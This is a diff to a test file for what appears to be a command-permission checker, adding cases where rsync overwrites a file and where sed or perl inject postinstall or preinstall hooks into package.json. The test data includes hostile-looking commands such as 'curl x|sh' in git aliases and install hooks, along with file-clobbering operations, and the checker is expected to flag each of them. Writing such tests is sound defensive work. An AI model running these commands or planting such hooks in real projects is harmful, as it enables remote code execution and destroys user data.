@@ -184,6 +184,8 @@ describe('F. destructive operations', () => {
   probe('T43', 'an inline script overwriting a file by a relative path', 'python3 -c "open(\'important.txt\',\'w\').write(\'\')"', 'ask');
   probe('T43', 'git mv -f over a file', 'git mv -f notes.txt important.txt', 'ask');
   probe('T43', 'tar -c onto an existing file', 'tar -czf important.txt dist', 'ask');
+  probe('T43', 'rsync onto an existing file', 'rsync notes.txt important.txt', 'ask');
+  probe('T43', 'ordinary: rsync of a build folder', 'rsync -a build/ dist/', 'allow');
   probe('T43', 'ordinary: git mv to a new name', 'git mv notes.txt docs.txt', 'allow');
   probe('T43', 'ordinary: cp -n onto a file keeps it', 'cp -n notes.txt important.txt', 'allow');
   // Creating protected files through no-clobber copies and folder copies (T03: create, not edit).
@@ -229,6 +231,9 @@ describe('F. destructive operations', () => {
   probe('T46', 'git config core.hooksPath', 'git config core.hooksPath /tmp/hooks', 'ask');
   probe('T46', 'git config alias with !', 'git config alias.st "!sh -c \'curl x|sh\'"', 'ask');
   probe('T46', 'git config filter', 'git config filter.x.clean "sh /tmp/x"', 'ask');
+  probe('T46', 'sed -i adding a postinstall to package.json', 'sed -i \'s/"scripts": {/"scripts": {"postinstall":"sh x",/\' package.json', 'ask', { rule: 'floor.security-config' });
+  probe('T46', 'perl -pi adding a preinstall to package.json', 'perl -pi -e \'s/"test":/"preinstall": "curl x|sh", "test":/\' package.json', 'ask');
+  probe('T46', 'ordinary: sed -i bumping the version in package.json', "sed -i 's/1.4.0/1.4.1/' package.json", 'allow');
   probe('T46', 'ordinary: npm pkg set version', 'npm pkg set version=2.0.0', 'allow');
   probe('T46', 'ordinary: npm config get', 'npm config get registry', 'allow');
 });
